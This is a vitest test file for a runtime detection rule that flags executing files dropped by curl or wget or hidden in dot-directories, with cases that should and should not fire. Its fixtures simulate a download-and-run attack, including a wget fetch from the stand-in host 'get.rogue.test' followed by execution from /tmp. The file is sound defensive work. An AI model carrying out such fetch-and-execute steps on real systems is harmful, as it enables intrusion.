import { describe, expect, test } from 'vitest';
import { exec, write, ruleTable, runRule } from '../../test-kit.js';
import { execDroppedFile } from './exec-dropped-file.js';

describe('proc.exec-dropped-file', () => {
  ruleTable(execDroppedFile, {
    fires: [
      {
        name: 'curl-dropped binary in /tmp',
        given: [write('/tmp/.x/run', { exe: '/usr/bin/curl' })],
        event: exec(['/tmp/.x/run']),
      },
      {
        name: 'file in a hidden workspace dir',
        given: [write('/workspace/.hid/svc', { exe: '/usr/bin/cp' })],
        event: exec(['/workspace/.hid/svc']),
      },
      {
        name: 'no file events: run from private /tmp after a download',
        given: [exec(['wget', 'http://get.rogue.test/a'], { pid: 90 })],
        event: exec(['/tmp/a']),
      },
    ],
    passes: [
      {
        name: 'compiled and run in /tmp',
        given: [write('/tmp/a.out', { exe: '/usr/bin/ld.bfd' })],
        event: exec(['/tmp/a.out']),
      },
      {
        name: 'no file events, gcc seen',
        given: [exec(['gcc', '-o', '/tmp/t', 't.c'], { pid: 90 })],
        event: exec(['/tmp/t']),
      },
      {
        name: 'venv python',
        given: [write('/workspace/.venv/bin/python', { exe: '/usr/bin/python3' })],
        event: exec(['/workspace/.venv/bin/python']),
      },
      { name: 'system binary', event: exec(['/usr/bin/ls']) },
      { name: 'hidden dir without creation facts', event: exec(['/workspace/.tools/fmt']) },
    ],
  });

  test('a downloader-written file is high', () => {
    const hit = runRule(execDroppedFile, {
      given: [write('/tmp/p', { exe: '/usr/bin/wget' })],
      event: exec(['/tmp/p']),
    });
    expect(hit?.severity).toBe('high');
  });
});
